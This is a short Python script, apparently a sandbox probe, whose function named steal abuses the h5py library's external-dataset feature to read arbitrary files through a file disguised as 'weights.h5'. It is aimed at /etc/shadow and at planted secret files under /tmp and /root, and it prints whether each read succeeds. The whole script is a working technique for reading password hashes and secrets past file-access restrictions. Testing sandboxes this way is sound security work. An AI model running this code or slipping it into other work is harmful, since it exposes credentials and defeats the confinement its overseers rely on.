def probe(name, attempt):
    """Tell whether an attempt got through."""
    try:
        got = attempt()
    except BaseException as error:
        print(f"PROBE {name}: denied ({type(error).__name__}: {error})")
    else:
        print(f"PROBE {name}: OPEN {got!r}" if got else f"PROBE {name}: denied (nothing there)")


import h5py


def steal(path):
    with h5py.File("weights.h5", "w") as file:
        file.create_dataset("w", (64,), "u1", external=[(path, 0, 64)])
    with h5py.File("weights.h5") as file:
        data = bytes(file["w"][:])
    return data.strip(b"\0").decode(errors="replace")


probe("shadow", lambda: steal("/etc/shadow"))
probe("planted", lambda: steal("/tmp/planted-secret"))
probe("home", lambda: steal("/root/planted-secret"))
